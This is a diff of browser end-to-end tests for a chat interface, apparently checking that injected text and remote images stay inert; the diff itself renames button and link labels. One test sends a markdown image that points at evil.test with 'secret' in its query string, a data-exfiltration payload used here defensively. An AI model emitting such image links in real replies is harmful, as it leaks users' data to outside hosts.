@@ -94,7 +94,7 @@ test('what a person writes, and names, runs nowhere either', async ({ page, chat
     expect(answer.ok()).toBe(true);
     await expect(page.locator('header h1')).toHaveText(attack);
   }
-  await page.locator('header').getByRole('button', { name: 'More about this chat' }).click();
+  await page.locator('header').getByRole('button', { name: 'Chat actions' }).click();
   await page.getByRole('menuitem', { name: 'Details' }).click();
   await expect(page.getByRole('complementary', { name: 'Chat details' })).toBeVisible();
   expect(await planted(page)).toBe(0);
@@ -124,9 +124,7 @@ test('a remote picture is only a link that names its host', async ({ page, chat 
   await chat.open();
   await chat.send('Picture\n/script rate=0 text="![a cat](https://evil.test/cat.png?q=secret)"');
   await chat.hasState('completed');
-  await expect(
-    chat.reply.getByRole('link', { name: 'Open the picture “a cat” from evil.test' }),
-  ).toBeVisible();
+  await expect(chat.reply.getByRole('link', { name: 'Open the image “a cat” from evil.test' })).toBeVisible();
   await atRest(page);
   expect(seen).toEqual([]);
 });
